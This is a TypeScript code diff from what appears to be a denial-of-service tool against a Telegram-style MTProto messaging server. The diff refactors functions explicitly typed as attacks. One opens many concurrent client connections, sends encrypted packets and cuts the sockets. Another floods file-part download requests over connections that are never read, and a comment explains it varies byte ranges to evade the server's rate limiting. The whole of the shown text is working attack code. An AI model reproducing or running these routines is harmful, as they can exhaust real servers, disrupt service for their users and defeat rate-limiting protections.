@@ -35,8 +35,8 @@ function cut(make: (packet: Uint8Array, key: ClientKey) => Uint8Array): Attack {
     await Promise.all(target.keys.flatMap((key) =>
       Array.from({ length: AT_ONCE }, async () => {
         const client = await openClient(target, key);
-        await client[Symbol.asyncDispose]();
-        while (!target.signal.aborted) {
+        await client?.[Symbol.asyncDispose]();
+        while (client && !target.signal.aborted) {
           await sendAndCut(await openSocket(target), make(client.session.encrypt([{ body: nextPart() }]).packet, key), target);
           made += 1;
         }
@@ -63,7 +63,7 @@ function framed(packet: Uint8Array): Uint8Array {
 }
 
 /** Sends itself a file. @returns where its parts are */
-async function sendFile(account: RawAccount): Promise<tl.InputFileLocation> {
+export async function sendFile(account: RawAccount): Promise<tl.InputFileLocation> {
   const fileId = systemRandom.int63();
   for (let part = 0; part < LOADED_PARTS; part++) await account.call<'upload.saveBigFilePart'>(partOf(fileId, part, LOADED_PARTS));
   const sent = await account.call<'messages.sendMedia'>({
@@ -83,18 +83,12 @@ async function sendFile(account: RawAccount): Promise<tl.InputFileLocation> {
 }
 
 /** Asks for the parts of a file over connections that are never read. */
-const askForParts: Attack = async (target) => {
-  const locations = new Map<ClientKey, tl.InputFileLocation>();
-  for (const account of target.accounts) {
-    await account.connect(target.info);
-    locations.set(account.key, await sendFile(account));
-    account.disconnect();
-  }
+const askForParts: Attack = (target) => {
   let n = 0;
   // Each asks for another range, because calls that are repeated with the same bytes are slowed down.
   const ask = (key: ClientKey): Uint8Array => {
     const at = (n++ * 1024) % (PART_BYTES * (LOADED_PARTS - 2));
-    return encode({ _: 'upload.getFile', precise: true, location: locations.get(key)!, offset: BigInt(at - (at % (2 * PART_BYTES)) + (at % PART_BYTES)), limit: PART_BYTES });
+    return encode({ _: 'upload.getFile', precise: true, location: target.files.get(key)!, offset: BigInt(at - (at % (2 * PART_BYTES)) + (at % PART_BYTES)), limit: PART_BYTES });
   };
   return packets((key) => Array.from({ length: 20 }, () => ({ body: ask(key) })), { reads: false })(target);
 };
